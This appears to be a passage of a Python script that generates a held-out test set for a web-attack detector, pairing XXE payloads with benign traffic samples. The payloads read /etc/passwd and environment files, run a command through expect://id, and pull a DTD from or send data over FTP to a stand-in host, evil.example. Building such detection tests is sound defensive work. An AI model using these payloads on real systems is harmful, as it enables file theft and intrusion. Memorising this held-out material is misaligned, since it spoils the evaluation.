    '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser xmlns="http://app.example/ws"><UserId>&xxe;</UserId></GetUser></soap:Body></soap:Envelope>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<?xml version="1.0"?>\n<!DOCTYPE cmd [<!ENTITY xxe SYSTEM "expect://id">]>\n<cmd>&xxe;</cmd>',
    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>\n<r>&xxe;</r>',
    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "jar:http://evil.example/payload.zip!/file.txt">]>\n<r>&xxe;</r>',
    '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///proc/self/environ">]>\n<rss version="2.0"><channel><title>&x;</title><item><title>hi</title></item></channel></rss>',
    "<?xml version='1.0'?><!DOCTYPE   foo[<!ENTITY  xxe   SYSTEM   'file:///etc/passwd' >]><foo>&xxe;</foo>",
    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % a SYSTEM "ftp://evil.example:2121/%25x;"> %a;]>\n<r/>',
    '<?xml version="1.0"?>\n<!DOCTYPE data [<!ENTITY file SYSTEM "file:///var/www/html/config.php">]>\n<data><item name="x">&file;</item></data>',
]
XXE_SVG = [
    '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>',
    '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY % r SYSTEM "http://evil.example/svg.dtd"> %r;]>\n<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
    '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg"><desc>&xxe;</desc></svg>',
]

# ---------------------------------------------------------------------------
# per-category request contexts: (path, parameter name)
# ---------------------------------------------------------------------------
CONTEXTS = {
    "sqli": [("/products", "id"), ("/search", "q"), ("/api/v2/users/42/orders", "sort"), ("/login", "username"),
             ("/api/v2/reports", "from_date"), ("/catalog/items", "category"), ("/account/settings", "display_name")],
    "xss": [("/search", "q"), ("/api/v2/users/42", "bio"), ("/comments", "body"), ("/account/settings", "website"),
            ("/feedback", "message"), ("/profile/edit", "nickname"), ("/login", "redirect")],
    "lfi": [("/download", "file"), ("/view", "page"), ("/api/v2/templates/render", "template"), ("/static/load", "path"),
            ("/index.php", "lang"), ("/reports/export", "filename")],
    "rfi": [("/index.php", "page"), ("/include.php", "file"), ("/view", "template"), ("/modules/loader.php", "module"),
            ("/wp-content/plugins/gallery/show.php", "path")],
    "rce": [("/tools/ping", "host"), ("/api/v2/network/diagnostics", "target"), ("/admin/backup", "filename"),
            ("/convert", "format"), ("/api/v2/images/resize", "size"), ("/cgi-bin/status", "device")],
    "php": [("/index.php", "page"), ("/api/v2/import", "data"), ("/index.php", "file"), ("/profile/update.php", "prefs"),
            ("/cart.php", "state"), ("/admin/tools.php", "cb")],
    "java": [("/api/v2/search", "q"), ("/login", "username"), ("/struts2-showcase/index.action", "name"),
             ("/api/v2/users/42", "displayName"), ("/api/v2/session", "state"), ("/actuator/env", "value")],
    "ssrf": [("/api/v2/webhooks", "url"), ("/fetch", "url"), ("/api/v2/images/import", "image_url"),
             ("/preview", "link"), ("/api/v2/integrations/rss", "feed"), ("/pdf/render", "source")],
    "ssti": [("/api/v2/users/42", "name"), ("/greeting", "name"), ("/email/preview", "template"),
             ("/search", "q"), ("/profile/edit", "bio"), ("/api/v2/invoices/preview", "footer")],
    "nosqli": [("/api/v2/login", None), ("/api/v2/auth/reset", None), ("/api/v2/users/search", None),
               ("/login", None), ("/api/v2/products", None)],
    "ldapi": [("/login", "username"), ("/directory/search", "q"), ("/api/v2/people", "uid"),
              ("/admin/groups", "member"), ("/sso/lookup", "user")],
    "crlf": [("/redirect", "next"), ("/login", "return_to"), ("/set-language", "lang"), ("/out", "url"),
             ("/auth/callback", "state"), ("/logout", "redirect_uri")],
}

EXTRA_QS = [[("page", "1")], [("lang", "en")], [("sort", "newest"), ("page", "2")], [], [("ref", "nav")],
            [("v", "2")], [("per_page", "25")], [("utm_source", "newsletter")], []]


# ---------------------------------------------------------------------------
# attack request builders
# ---------------------------------------------------------------------------
def norm(entry):
    if isinstance(entry, str):
        return {"p": entry}
    d = dict(entry)
    if "obj" in d and "p" not in d:
        d["p"] = json.dumps(d["obj"], separators=(",", ":"))
    return d


def flatten(obj, prefix=""):
    """qs / PHP style bracket flattening: {"u":{"$ne":1}} -> [("u[$ne]","1")]."""
    out = []
    if isinstance(obj, dict):
        for k, v in obj.items():
            out += flatten(v, "%s[%s]" % (prefix, k) if prefix else k)
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            key = "%s[%d]" % (prefix, i) if isinstance(v, (dict, list)) else prefix + "[]"
            out += flatten(v, key)
    elif obj is None:
        out.append((prefix, ""))
    elif obj is True:
        out.append((prefix, "true"))
    elif obj is False:
        out.append((prefix, "false"))
    else:
        out.append((prefix, str(obj)))
    return out


def json_wrap(c, param, value):
    t = c.rng.randrange(6)
    if t == 0:
        return {"user": {"id": 42, "profile": {param: value, "locale": "en-US", "timezone": "Europe/Berlin"}},
                "items": [{"sku": "SKU-10023", "qty": 1}, {"sku": "SKU-20871", "qty": 3}]}
    if t == 1:
        return {"query": {"filters": {param: value, "in_stock": True}, "page": 1, "per_page": 25}, "sort": "-created_at"}
    if t == 2:
        return {"data": {"type": "comments", "id": c.uuid4(), "attributes": {param: value, "created_at": c.iso()}}}
    if t == 3:
        return {"event": "form_submit", "properties": {param: value, "path": "/checkout", "step": 2},
                "context": {"ip": "203.0.113.%d" % c.rng.randint(2, 250), "library": {"name": "analytics.js", "version": "4.1.0"}}}
    if t == 4:
        return {"settings": {"notifications": {"email": True, "sms": False}, "display": {param: value, "theme": "dark"}}}
    return {param: value, "remember_me": False, "client_id": "web-spa"}


def qs_join(pairs):
    return "&".join("%s=%s" % kv for kv in pairs)


def enc_key(c, k):
    return quote(k, safe="[]$") if c.rng.random() < 0.5 else quote(k, safe="")


def build_attack(c, cat, entry, loc, path, param):
    e = norm(entry)
    p = e["p"]
    obj = e.get("obj")
    is_nosql_obj = cat == "nosqli" and obj is not None
    pname = param or "q"
    req = {"method": "GET", "uri": path, "version": "HTTP/1.1", "location": loc}
    api = path.startswith("/api/")
    kind = "api" if (api and c.rng.random() < 0.5) else "browser"

    if loc == "query":
        extra = [(k, v) for k, v in c.choice(EXTRA_QS) if k != pname]
        if is_nosql_obj:
            pairs = [(enc_key(c, k), enc_strict(v)) for k, v in flatten(obj)]
        else:
            val = e.get("enc") or (enc_strict(p) if c.rng.random() < 0.5 else enc_browser(p))
            pairs = [(pname, val)]
        pos = c.rng.randint(0, len(extra))
        pairs = extra[:pos] + pairs + extra[pos:]
        req["uri"] = path + "?" + qs_join(pairs)
        req["headers"] = c.headers(kind, accept=ACCEPT_JSON if kind == "api" else None)
    elif loc == "form":
        req["method"] = "POST"
        if is_nosql_obj:
            pairs = [(enc_key(c, k), enc_form(v)) for k, v in flatten(obj)]
        else:
            pairs = [(pname, e.get("enc") or enc_form(p))]
        extra = c.choice([[("csrf_token", c.alnum(32))], [("remember", "on")], [("submit", "Save")], [],
                          [("_token", c.alnum(40)), ("locale", "en")]])
        body = qs_join(extra[:1] + pairs + extra[1:])
        req["headers"] = c.headers("browser", extra=[("Content-Type", "application/x-www-form-urlencoded"),
                                                     ("Origin", "https://" + HOST), ("Referer", "https://%s%s" % (HOST, path))])
        req["body"] = body
    elif loc == "json":
        req["method"] = "PATCH" if path.startswith(("/api/v2/users/", "/account/")) else "POST"
        if obj is not None:
            body = obj
        else:
            body = json_wrap(c, pname, p)
        hdr_extra = [("Content-Type", "application/json")]
        if c.rng.random() < 0.5:
            hdr_extra.append(("Authorization", "Bearer " + c.jwt()))
        req["headers"] = c.headers(kind, accept=ACCEPT_JSON, extra=hdr_extra)
        req["body"] = json.dumps(body, ensure_ascii=False)
    elif loc == "cookie":
        if is_nosql_obj:
            cval = "j:" + enc_cookie(json.dumps(obj, separators=(",", ":")))
            cname = c.choice(["auth", "filter", "session_data"])
        else:
            cval = e.get("enc") or enc_cookie(p)
            cname = param or "prefs"
        cookies = ["sid=" + c.alnum(26), "%s=%s" % (cname, cval)]
        if c.rng.random() < 0.5:
            cookies.insert(0, "_ga=GA1.1.%d.%d" % (c.rng.randint(10**8, 10**9 - 1), c.rng.randint(1700000000, 1716000000)))
        if c.rng.random() < 0.5:
            cookies.append("theme=dark")
        req["headers"] = c.headers("browser", extra=[("Cookie", "; ".join(cookies))])
    elif loc == "header":
        hname = c.choice(["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Param"])
        hdrs = c.headers(kind)
        if hname == "User-Agent":
            val = p if c.rng.random() < 0.5 else c.choice(UA_BROWSER) + " " + p
            hdrs = [h for h in hdrs if h[0] != "User-Agent"]
            hdrs.insert(1, ["User-Agent", val])
        elif hname == "Referer":
            val = p if p.lower().startswith(("http", "//")) else "https://%s/search?q=%s" % (HOST, p)
            hdrs.append(["Referer", val])
        elif hname == "X-Forwarded-For":
            hdrs.append(["X-Forwarded-For", p])
        else:
            hdrs.append(["X-Api-Param", p])
        req["headers"] = hdrs
        req["header_name"] = hname
    elif loc == "multipart":
        req["method"] = "POST"
        b = c.boundary()
        if is_nosql_obj:
            parts = [(k, v, None, None) for k, v in flatten(obj)]
        else:
            parts = [("title", c.choice(["Quarterly update", "Profile", "My upload", "Support request"]), None, None),
                     (pname, p, None, None)]
        if c.rng.random() < 0.5:
            parts.append(("attachment", "hello,world\n1,2\n", "notes.csv", "text/csv"))
        req["headers"] = c.headers("browser", extra=[("Content-Type", "multipart/form-data; boundary=" + b),
                                                     ("Origin", "https://" + HOST)])
        req["body"] = multipart_body(b, parts)
    else:
        raise ValueError(loc)
    return req


LOC_PAIRS = [("query", "json"), ("form", "cookie"), ("query", "form"), ("json", "cookie"), ("query", "cookie"), ("form", "json")]

XML_CTX = [("POST", "/api/v2/import", "application/xml", None),
           ("POST", "/soap/UserService", "text/xml; charset=utf-8", '"http://app.example/ws/GetUser"'),
           ("PUT", "/api/v2/orders/1001", "application/xml", None),
           ("POST", "/feeds/ingest", "application/rss+xml", None),
           ("POST", "/saml/acs-debug", "application/xml; charset=utf-8", None),
           ("POST", "/api/v2/invoices", "text/xml", None)]


def gen_attacks(c):
    lines = []
    counters = collections.Counter()

    def emit(cat, req, payload_idx):
        counters[cat] += 1
        line = {"id": "heldout/%s/%d" % (cat, counters[cat]), "set": "heldout", "category": cat, "expect": "detect"}
        line.update(req)
        line["payload_index"] = payload_idx
        lines.append(line)

    table = [("sqli", SQLI), ("xss", XSS), ("lfi", LFI), ("rfi", RFI), ("rce", RCE), ("php", PHP), ("java", JAVA),
             ("ssrf", SSRF), ("ssti", SSTI), ("nosqli", NOSQLI), ("ldapi", LDAPI), ("crlf", CRLF)]
    for cat, payloads in table:
        ctxs = CONTEXTS[cat]
        for i, entry in enumerate(payloads):
            e = norm(entry)
            locs = list(LOC_PAIRS[i % len(LOC_PAIRS)])
            structured = "obj" in e and cat == "nosqli"
            if i % 3 == 0 and not structured and header_safe(e["p"]):
                locs.append("header")
            if i % 4 == 1:
                locs.append("multipart")
            for j, loc in enumerate(locs):
                path, param = ctxs[(i + j) % len(ctxs)]
                if cat == "nosqli" and param is None and not structured:
                    param = c.choice(["username", "password", "q", "name"])
                if e.get("url"):
                    url_ctx = [cx for cx in ctxs if cx[1] in ("website", "redirect")]
                    path, param = url_ctx[(i + j) % len(url_ctx)]
                emit(cat, build_attack(c, cat, entry, loc, path, param), i)

    # XXE as XML bodies (two endpoints each) + SVG uploads
    for i, doc in enumerate(XXE):
        for j in range(2):
            method, path, ctype, soap = XML_CTX[(2 * i + j) % len(XML_CTX)]
            extra = [("Content-Type", ctype)]
            if soap:
                extra.append(("SOAPAction", soap))
            req = {"method": method, "uri": path, "version": "HTTP/1.1", "location": "xml",
                   "headers": c.headers("api", accept="application/xml, text/xml, */*", extra=extra), "body": doc}
            emit("xxe", req, i)
    for k, svg in enumerate(XXE_SVG):
        b = c.boundary()
        body = multipart_body(b, [("caption", "new avatar", None, None), ("file", svg, "avatar.svg", "image/svg+xml")])
        req = {"method": "POST", "uri": "/api/v2/users/42/avatar", "version": "HTTP/1.1", "location": "multipart",
               "headers": c.headers("browser", accept=ACCEPT_JSON, extra=[("Content-Type", "multipart/form-data; boundary=" + b),
                                                                          ("Origin", "https://" + HOST)]),
               "body": body}
        emit("xxe", req, len(XXE) + k)
        req = {"method": "PUT", "uri": "/media/uploads/diagram-%d.svg" % (k + 1), "version": "HTTP/1.1", "location": "xml",
               "headers": c.headers("api", accept=ACCEPT_JSON, extra=[("Content-Type", "image/svg+xml")]), "body": svg}
        emit("xxe", req, len(XXE) + k)
    return lines


# ---------------------------------------------------------------------------
# BENIGN content pools
# ---------------------------------------------------------------------------
FIRST = ["Liam", "Olivia", "Seán", "Zoë", "José", "Aisha", "Mei", "Hiroshi", "Fatima", "Noah", "Chloé", "Björn",
         "Priya", "Dmitri", "Amara", "Mateo", "Siobhan", "Jürgen", "Ngozi", "Yuki", "Grace", "Mary-Kate"]
LAST = ["O'Brien", "D'Angelo", "Smith", "García", "Müller", "Nguyen", "Kowalski", "O'Neil", "van der Berg",
        "McAllister", "Al-Sayed", "Øster", "Dubois", "Fernández-López", "Okafor", "Tanaka", "Ó Súilleabháin",
        "St. John", "Patel", "Li", "D'Souza", "Johnson-Smythe"]
STREETS = ["350 5th Ave., Suite 7600", "12 O'Connell St.", "221B Baker St", "1600 Amphitheatre Pkwy",
           "4 Rue de l'Église", "Königsallee 27", "Calle de Alcalá 45, 3º izq.", "88 Queen's Rd Central",
           "10 Downing St, Flat #2", "742 Evergreen Terrace", "1 Infinite Loop (Bldg 3)", "P.O. Box 1234",
           "77 Mass. Ave, Room 7-105", "1 Union Station Plaza", "500 W. Madison St. & Canal", "Apt. 4B, 19 St Mark's Pl"]
CITIES = [("New York", "NY", "10118", "US"), ("Dublin", "", "D01 F5P2", "IE"), ("London", "", "NW1 6XE", "GB"),
          ("Paris", "", "75006", "FR"), ("Düsseldorf", "", "40212", "DE"), ("Madrid", "", "28014", "ES"),
          ("Hong Kong", "", "", "HK"), ("Springfield", "OR", "97403", "US"), ("São Paulo", "SP", "01310-100", "BR"),
          ("Toronto", "ON", "M5V 2T6", "CA"), ("Chicago", "IL", "60661", "US"), ("Coeur d'Alene", "ID", "83814", "US")]
PHONES = ["+1 (212) 555-0187", "+44 20 7946 0958", "+33 1 23 45 67 89", "+49 211 1234567", "(555) 014-2200 ext. 12",
          "+353 1 555 0199", "+81 3-1234-5678", "+55 11 91234-5678", "+1-416-555-0110", "555.867.5309"]
PRODUCTS = ["Men's Trail Runner 2 (Wide)", "Cast-Iron Skillet 12\"", "USB-C to USB-C Cable, 2 m", "Organic Cotton Tee - Size M",
            "Select Grind Coffee 1 kg", "Union Jack Mug", "Drop-Leaf Table (Oak)", "Kids' Script Writing Workbook",
            "Rock & Roll Hall of Fame Poster", "1:24 Scale Model Kit - '67 Mustang", "Noise-Cancelling Headphones (Gen 3)",
            "Select-a-Size Paper Towels, 6 pk", "Echo Dot (5th Gen)", "Java Beans Espresso Roast", "Sleep Mask & Earplugs Set",
            "Café Crème Pods x 50", "Tischdecke \"Grün\" 140×220 cm", "Zapatillas Running Mujer T.38"]
TRICKY = [
    "Please select the size from the table below before you check out.",
    "Drop us a line at support@shop.example if anything's off with your order.",
    "Meet me at Union Station, by the Amtrak desk (track 12), around 5:30.",
    "I wrote the script for the play; rehearsals start Monday at 7pm.",
    "Don't forget to update your password every 90 days -- IT's orders, not mine.",
    "Pay by Friday or else the reservation gets released to the waitlist.",
    "Got the 1=1 scale model joke from my dad; the kit itself is 1:24.",
    "Pick the blue one from the table & ship it to my office, please.",
    "The exec summary is on page 2 (see 'Key Findings' and the appendix).",
    "My C:\\Users folder was full, so the installer stopped at 87%.",
    "My t-shirt says \"sudo make me a sandwich\" and people love it.",
    "You can just rm the old file and re-upload the new version; that fixed it for me.",
    "Selected items: 3; total: $47.85 (incl. 8.875% sales tax).",
    "Insert tab A into slot B, then drop the shelf onto the pegs.",
    "We'll union our two teams' backlogs and prioritise together next sprint.",
    "Where's the 'Delete' button? I want to delete my old shipping address.",
    "Is it 'and/or' or just 'or'? My editor insists on 'or' only.",
    "Loved it!!! 5/5, would buy again :)",
    "-- Sent from my iPhone",
    "Price went from EUR 120 to EUR 96 -- that's 20% off, right?",
    "Can I set the alarm for 6:00 am; or is 6:30 the earliest option?",
    "The 'where' clause in our contract (section 4.2) is unclear to me.",
    "Echo Park & Silver Lake are both great for brunch; go early.",
    "Please cc: accounts@example.com; bcc isn't needed.",
    "Having a total 'null' day today -- nothing works, lol.",
    "Alert: the 7:45 train is delayed by 10 min, so I'll be late.",
    "Is the cast iron pan oven-safe up to 500°F (260°C)?",
    "The hotel had a 'Select' tier & a 'Premium' tier; go Premium, trust me.",
    "She said: \"Grab the sheets from the top drawer & the pillows from the closet.\"",
    "Tip: press Ctrl + Alt + Del if the screen freezes during the update.",
    "Rows 1-10 of the spreadsheet are fine; row 11 shows a #REF! error.",
    "We ordered 2 x large pizzas (pepperoni; extra cheese) @ $14 each.",
    "The sign on the door said 'Employees only -- no exceptions'.",
    "Kids 5 & under eat free (Mon-Thu), which is a great deal.",
    "Can you switch my 100% cotton order to the 50/50 blend?",
    "I'd like to cancel -- or, wait, can I just pause it for a month?",
    "The print function on your site cut off the last line of my receipt.",
    "Shipping to P.O. Box 1234; attn: Ms. D'Souza (front desk).",
    "Java (the island) is beautiful in July; highly recommend Yogyakarta.",
    "My son's Python book was missing pages 40-52.",
    "Re: invoice INV-2024-0042 -- is the amount of $1,250.00 correct?",
    "Can't log in after the update... tried 3 times (Chrome + Safari).",
    "The waiter said 'select any two sides', so fries & slaw it is.",
    "Order #10293 arrived with the box upside down; contents were fine though.",
    "Is there a discount if I order 10+ units, or is that only for business accounts?",
    "I'm 6'2\" and the XL fits perfectly; sleeves are a bit long.",
    "Left the keys 'on the table' -- classic me. Anyway, the lock works great.",
    "Our exec team wants a demo on Tuesday; can we do 2-3pm EST?",
    "Update: the replacement arrived and it works (finally!).",
    "Please delete the duplicate order (#A-7781); I only wanted one.",
    "The instructions say to drop the tablet in water and wait 5 minutes.",
    "Who's in charge of the script for the school play this year?",
    "Bought it for my wife's birthday -- she said it's \"the best gift ever\".",
    "1 cup flour, 1/2 cup sugar, 2 eggs; bake at 180°C for 25-30 min.",
    "Our union rep will join the call; is that OK with HR?",
    "The 'Sleep' setting on the fan is way too loud for a bedroom.",
    "It's a 3-in-1 charger: phone + watch + earbuds. Works as advertised.",
    "Q: does it fit a 15.6\" laptop? A: yes, with room to spare.",
]
MULTI = [
    "Très bon produit, livraison rapide ! Je recommande à 100 %.",
    "L'article est arrivé abîmé ; pouvez-vous m'envoyer un remplacement ?",
    "Die Lieferung kam pünktlich, aber die Größe fällt etwas klein aus.",
    "Könnten Sie die Rechnung bitte an meine Firmenadresse schicken? Danke!",
    "¿Tienen envío a Ciudad de México? ¡Gracias de antemano!",
    "El pedido llegó incompleto: faltan 2 artículos (talla M).",
    "质量很好，物流也很快，下次还会再买。",
    "请问这个型号支持 5G 吗？谢谢！",
    "المنتج رائع والتوصيل كان سريعاً، شكراً لكم",
    "هل يمكنني تغيير عنوان الشحن بعد الطلب؟",
    "Отличный товар, всё пришло вовремя.",
    "素晴らしい商品です！また購入します。",
    "Ótimo atendimento 👍 chegou antes do prazo 🎉",
    "Love it ❤️🔥 fits perfectly 💯",
    "Dziękuję za szybką dostawę!",
    "Mooi product, maar de handleiding is alleen in het Engels.",
    "Grazie mille, tutto perfetto! 😊",
    "이 제품 정말 좋아요. 배송도 빨랐어요!",
]
SEARCH_Q = [
    "select size 10 running shoes", "union station parking", "drop leaf table oak", "script for the play romeo and juliet",
    "O'Reilly python books", "how to update password", "c++ vs rust", "1=1 scale model", "rock & roll t-shirt",
    "50% off sale", "\"cast iron\" skillet 12 inch", "café crème pods", "北京 酒店", "java beans espresso",
    "echo dot 5th gen", "cat food grain-free", "ping pong table outdoor", "sleep mask", "gpu benchmark 2024",
    "null island", "admin assistant jobs london", "what does rm -rf do", "kids' shoes size 13", "men's jacket <$100",
    "levi's 501", "where to buy 3/4\" plywood", "coupon code spring-20", "t-shirt (xl)", "iphone 15 pro; case",
    "table lamp", "from the table to the farm", "delete account", "exec summary template", "c:\\users documents backup",
    "sudo make me a sandwich shirt", "order by phone", "mañana zapatos", "größe 42 schuhe", "ordinateur portable 15\"",
    "حقيبة ظهر", "ノートパソコン", "wine & cheese gift set", "dinner for 2 @ 7pm", "#1 best seller", "100% merino wool",
    "a+b=c math poster", "tom & jerry dvd", "email: help", "30\" x 40\" frame", "javascript for kids book",
    "insert coin arcade sign", "the who - live at leeds", "what is 2+2", "hello world", "alert clock radio",
]
URLS = [
    "https://www.google.com/search?q=trail+running+shoes&oq=trail+run&sourceid=chrome&ie=UTF-8",
    "https://cdn.shopimg.example/products/sku-1234.jpg?w=800&h=800&fit=crop&auto=format,compress",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://example.com/blog/2024/03/how-we-scaled?utm_source=twitter&utm_medium=social",
    "https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789/edit#gid=0",
    "https://maps.google.com/?q=Union+Station,+Chicago,+IL",
    "https://github.com/acme/widgets/pull/482/files#diff-3f9a",
    "https://images.unsplash.com/photo-1500530855697-b586d89ba3ee?ixlib=rb-4.0.3&q=80&fm=jpg&crop=entropy&cs=tinysrgb&w=1080",
    "https://en.wikipedia.org/wiki/Union_Station_(Chicago)",
    "https://hooks.slack.com/services/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",
    "https://linkedin.com/in/sean-obrien-42",
    "https://calendly.com/acme-sales/30min?month=2024-05",
]


def full_name(c):
    return c.choice(FIRST) + " " + c.choice(LAST)


def email_for(c, name=None):
    name = name or full_name(c)
    base = unicodedata.normalize("NFKD", name.lower()).encode("ascii", "ignore").decode()
    base = ".".join(w for w in base.replace("'", "").replace("-", " ").split() if w) or "user"
    if c.rng.random() < 0.2:
        base += "+" + c.choice(["shop", "news", "2024", "work"])
    return base + "@" + c.choice(["example.com", "mail.example", "example.org", "corp.example", "uni.example.edu"])


def address(c):
    city, region, postal, country = c.choice(CITIES)
    a = {"line1": c.choice(STREETS), "city": city, "postal_code": postal, "country": country}
    if region:
        a["region"] = region
    if c.rng.random() < 0.3:
        a["line2"] = c.choice(["c/o Jane O'Hara", "Floor 3 (ring twice)", "Unit #12", "Gate code: 4411#"])
    return a


def prose(c, n_min=1, n_max=4, multi=0.2):
    out = []
    for _ in range(c.rng.randint(n_min, n_max)):
        out.append(c.choice(MULTI) if c.rng.random() < multi else c.choice(TRICKY))
    return " ".join(out)


def price(c):
    return "%d.%02d" % (c.rng.randint(1, 499), c.choice([0, 49, 95, 99, 50, 25]))


def tiny_png(c, w=8, h=8):
    rows = b""
    for _ in range(h):
        rows += b"\x00" + bytes(c.rng.getrandbits(8) for _ in range(w * 3))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


CODE_SNIPPETS = [
    ("python", "fib.py", "def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n\n\nif __name__ == \"__main__\":\n    print([fib(i) for i in range(10)])\n"),
    ("python", "load_csv.py", "import csv\nfrom pathlib import Path\n\n\ndef load(path: Path) -> list[dict]:\n    with path.open(newline=\"\", encoding=\"utf-8\") as fh:\n        return list(csv.DictReader(fh))\n\n\nrows = load(Path(\"data/customers.csv\"))\nprint(f\"{len(rows)} rows loaded\")\n"),
    ("javascript", "debounce.js", "export const debounce = (fn, ms = 300) => {\n  let t;\n  return (...args) => {\n    clearTimeout(t);\n    t = setTimeout(() => fn(...args), ms);\n  };\n};\n"),
    ("javascript", "fetchUser.js", "async function fetchUser(id) {\n  const res = await fetch(`/api/v2/users/${id}`, { headers: { Accept: 'application/json' } });\n  if (!res.ok) throw new Error(`HTTP ${res.status}`);\n  return res.json();\n}\n"),
    ("go", "main.go", "package main\n\nimport (\n\t\"fmt\"\n\t\"strings\"\n)\n\nfunc main() {\n\twords := strings.Fields(\"the quick brown fox\")\n\tfor i, w := range words {\n\t\tfmt.Printf(\"%d: %s\\n\", i, w)\n\t}\n}\n"),
    ("rust", "lib.rs", "pub fn mean(xs: &[f64]) -> Option<f64> {\n    if xs.is_empty() {\n        return None;\n    }\n    Some(xs.iter().sum::<f64>() / xs.len() as f64)\n}\n\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn it_works() {\n        assert_eq!(super::mean(&[1.0, 3.0]), Some(2.0));\n    }\n}\n"),
    ("css", "button.css", ".btn-primary {\n  background: #0a66c2;\n  border-radius: 6px;\n  padding: 0.5rem 1rem;\n}\n.btn-primary:hover { background: #004182; }\n@media (max-width: 600px) { .btn-primary { width: 100%; } }\n"),
    ("yaml", "docker-compose.yml", "services:\n  web:\n    build: .\n    ports:\n      - \"8080:8080\"\n    environment:\n      - NODE_ENV=production\n  db:\n    image: postgres:16\n    volumes:\n      - pgdata:/var/lib/postgresql/data\nvolumes:\n  pgdata: {}\n"),
    ("typescript", "types.ts", "export interface Order {\n  id: string;\n  items: Array<{ sku: string; qty: number }>;\n  total: number;\n  status: 'pending' | 'paid' | 'shipped';\n}\n"),
    ("java", "Greeter.java", "public class Greeter {\n    private final String name;\n\n    public Greeter(String name) { this.name = name; }\n\n    public String greet() {\n        return String.format(\"Hello, %s!\", name);\n    }\n}\n"),
]
MARKDOWN_POSTS = [
    "## Installing the CLI\n\n```bash\nnpm install --save-dev @acme/cli\n```\n\nThen run `npx acme init` and follow the prompts. See the [configuration guide](../guides/configuration.md) for options.",
    "Quick question: why does this print `None`?\n\n```python\ndef add(a, b):\n    print(a + b)\n\nresult = add(2, 3)\nprint(result)\n```\n\nI expected `5` twice. Thanks in advance!",
    "You can clone and build it like this:\n\n```\ngit clone https://github.com/acme/widgets.git && cd widgets && make test\n```\n\nTested on Ubuntu 22.04 and macOS 14.",
    "**TL;DR**: bump the dependency to `^2.4.1` and the warning goes away.\n\n> Note: the old API is deprecated (see #482).\n\n- [x] updated lockfile\n- [ ] update docs",
    "The easiest fix is to use `Array.prototype.flatMap`:\n\n```js\nconst tags = posts.flatMap(p => p.tags ?? []);\n```\n\nWorks in all evergreen browsers.",
    "| Plan | Price | Seats |\n|------|------:|------:|\n| Free | $0 | 1 |\n| Team | $12/mo | 10 |\n| Business | $40/mo | unlimited |\n\n*Prices exclude VAT.*",
    "Had the same error on Windows. The config lives in `%APPDATA%\\acme\\config.json`, not in the project folder. Deleting it and re-running the wizard fixed it.",
    "In Rust you want `Option::map_or`:\n\n```rust\nlet len = name.as_ref().map_or(0, |s| s.len());\n```",
]
BI_QUERIES = [
    ("Weekly signups (90d)", "SELECT date_trunc('week', created_at) AS week,\n       count(*) AS signups\nFROM users\nWHERE created_at >= now() - interval '90 days'\nGROUP BY 1\nORDER BY 1;"),
    ("Revenue by country", "SELECT c.country, sum(o.total_cents) / 100.0 AS revenue\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.status = 'paid'\nGROUP BY c.country\nORDER BY revenue DESC\nLIMIT 20;"),
    ("Top products last month", "SELECT p.name, count(*) AS units\nFROM order_items oi\nJOIN products p ON p.id = oi.product_id\nWHERE oi.created_at BETWEEN '2024-04-01' AND '2024-04-30'\nGROUP BY p.name\nORDER BY units DESC\nLIMIT 10;"),
    ("Churned accounts", "SELECT a.id, a.name, max(e.occurred_at) AS last_seen\nFROM accounts a\nLEFT JOIN events e ON e.account_id = a.id\nGROUP BY a.id, a.name\nHAVING max(e.occurred_at) < current_date - 30;"),
    ("Funnel conversion", "WITH steps AS (\n  SELECT session_id,\n         bool_or(event = 'view_item') AS viewed,\n         bool_or(event = 'add_to_cart') AS carted,\n         bool_or(event = 'purchase') AS bought\n  FROM web_events\n  GROUP BY session_id\n)\nSELECT count(*) FILTER (WHERE viewed) AS viewed,\n       count(*) FILTER (WHERE carted) AS carted,\n       count(*) FILTER (WHERE bought) AS bought\nFROM steps;"),
    ("Tickets per agent", "SELECT agent_email, count(*) AS tickets, avg(resolution_minutes) AS avg_minutes\nFROM support_tickets\nWHERE closed_at IS NOT NULL\nGROUP BY agent_email\nORDER BY tickets DESC;"),
]
GRAPHQL = [
    ("query GetUser($id: ID!) { user(id: $id) { name email } }", lambda c: {"id": str(c.rng.randint(1, 99999))}, "GetUser"),
    ("query Products($first: Int!, $after: String, $filter: ProductFilter) {\n  products(first: $first, after: $after, filter: $filter) {\n    edges { node { id name price { amount currency } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}",
     lambda c: {"first": 24, "after": c.choice([None, b64url(b"cursor:48")]), "filter": {"category": "shoes", "priceMin": 10, "priceMax": 250}}, "Products"),
